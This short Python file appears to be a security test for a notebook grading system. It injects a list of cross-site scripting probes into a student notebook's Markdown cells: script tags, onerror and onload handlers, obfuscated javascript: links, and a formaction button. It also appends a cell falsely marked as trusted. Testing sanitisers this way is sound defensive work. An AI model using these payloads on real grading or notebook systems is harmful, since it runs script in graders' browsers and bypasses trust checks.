"""Put script into Markdown: the written answer, and a cell of one's own.

Stock nbgrader: not tried. Here: graded, 0.
"""

SCRIPT = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\n\n"
    "[x](javascript:alert(1)) <javascript:alert(1)> <svg/onload=alert(1)>\n\n"
    "<a href='java&#115;cript:alert(1)'>y</a> <iframe srcdoc='<script>'></iframe>\n\n"
    "$\\href{javascript:alert(1)}{z}$ $<script>alert(1)</script>$\n\n"
    "<style>*{}</style>\n\n"
    "<form action=//x><button formaction='javascript:alert(1)'>z</button></form>"
)


def hand_in(folder, notebook):
    for cell in notebook["cells"]:
        if cell.get("id") == "why-two-formats":
            cell["source"] = SCRIPT
    mine = {"cell_type": "markdown", "source": SCRIPT, "metadata": {"trusted": True}}
    mine["attachments"] = {"x.svg": {"image/svg+xml": "PHN2Zz4="}}
    notebook["cells"].append(mine)
    return notebook
